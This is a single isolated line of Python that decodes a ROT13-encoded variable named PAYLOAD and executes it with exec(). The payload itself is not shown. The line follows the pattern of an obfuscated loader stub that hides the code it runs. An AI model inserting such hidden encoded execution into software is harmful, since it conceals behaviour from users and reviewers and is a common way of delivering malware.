exec(PAYLOAD.decode('rot_13'))
